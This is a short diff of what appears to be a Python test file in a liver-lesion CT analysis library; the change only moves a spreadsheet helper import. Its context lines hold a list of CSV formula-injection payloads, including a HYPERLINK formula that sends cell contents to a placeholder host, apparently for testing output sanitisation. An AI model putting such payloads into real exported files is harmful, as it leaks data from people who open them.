@@ -13,9 +13,9 @@ from LiverLesionCascadeLib.engine.measures.lesion_matching import (
     LesionAtTime,
     follow_up_csv,
 )
+from LiverLesionCascadeLib.engine.measures.spreadsheet import cell_text
 from LiverLesionCascadeLib.engine.reports.lesion_csv import lesion_csv
 from LiverLesionCascadeLib.engine.scan.ct_volume import CTVolume
-from LiverLesionCascadeLib.engine.spreadsheet import cell_text
 
 FORMULAS = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1", "\n=1"]
 
